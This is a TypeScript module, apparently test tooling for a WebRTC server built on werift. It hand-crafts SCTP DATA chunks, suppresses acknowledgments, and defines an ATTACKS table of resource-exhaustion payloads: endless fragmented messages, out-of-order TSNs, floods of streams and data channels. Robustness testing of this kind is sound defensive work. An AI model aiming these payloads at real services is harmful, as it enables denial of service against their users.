import type { Viewer } from './viewer.ts'

/** Private members of werift's SCTP. */
interface Association {
  localTsn: number
  sendChunk(chunk: { bytes: Buffer }): Promise<void>
}

interface DataChunk {
  tsn: number
  stream: number
  /** 2: first fragment, 1: last, 3: whole message, 0: one in the middle. */
  flags: number
  protocol?: number
  data: Buffer
}

/** A DATA chunk. RFC 9260 §3.3.1. */
export function dataChunk({ tsn, stream, flags, protocol = 51, data }: DataChunk): Buffer {
  const chunk = Buffer.alloc(16 + Math.ceil(data.length / 4) * 4)
  chunk.writeUInt8(flags | 4, 1) // unordered
  chunk.writeUInt16BE(16 + data.length, 2)
  chunk.writeUInt32BE(tsn >>> 0, 4)
  chunk.writeUInt16BE(stream, 8)
  chunk.writeUInt32BE(protocol, 12)
  data.copy(chunk, 16)
  return chunk
}

/** Sends packets of chunks of one's own over the association of this viewer. */
export function attackOver(viewer: Viewer) {
  const association = viewer.pc.sctpTransport?.sctp as unknown as Association
  const first = association.localTsn
  // werift rejects acknowledgments of channels that it does not know
  viewer.pc.sctpTransport?.sctp.onReceive.allUnsubscribe()
  return {
    first,
    packet: (chunks: readonly Buffer[]) => association.sendChunk({ bytes: Buffer.concat(chunks) }),
  }
}

/** Sends no acknowledgment any more, or those of a closed window for what has come so far. */
export function acknowledgeNothing(viewer: Viewer, { window }: { window: boolean }): void {
  const association = viewer.pc.sctpTransport?.sctp as unknown as {
    sendSack(): Promise<void>
    advertisedRwnd: number
  }
  if (!window) association.sendSack = () => Promise.resolve()
  else Object.defineProperty(association, 'advertisedRwnd', { get: () => 0, set: () => undefined })
}

const ONE_BYTE = Buffer.from('x')

/** Chunks of each attack, by the number of the chunk and the first TSN. */
/** One chunk of any type. RFC 9260 §3.2. */
export function rawChunk(type: number, body: string): Buffer {
  const chunk = Buffer.from(`00000000${body}`, 'hex')
  chunk.writeUInt8(type, 0)
  chunk.writeUInt16BE(chunk.length, 2)
  return chunk
}

export const ATTACKS: Record<string, (index: number, first: number) => Buffer> = {
  'a message that never ends, in tiny fragments': (i, first) =>
    dataChunk({ tsn: first + i, stream: 0, flags: i === 0 ? 2 : 0, data: ONE_BYTE }),
  'every second packet, so that none is in order': (i, first) =>
    dataChunk({ tsn: first + 2 * i + 1, stream: 0, flags: 3, data: ONE_BYTE }),
  'a message on each of many streams': (i, first) =>
    dataChunk({ tsn: first + i, stream: i, flags: 3, data: ONE_BYTE }),
  'many data channels': (i, first) =>
    dataChunk({
      tsn: first + i,
      stream: 100 + i,
      flags: 3,
      protocol: 50,
      data: Buffer.from('030000000000000000000000', 'hex'),
    }),
}
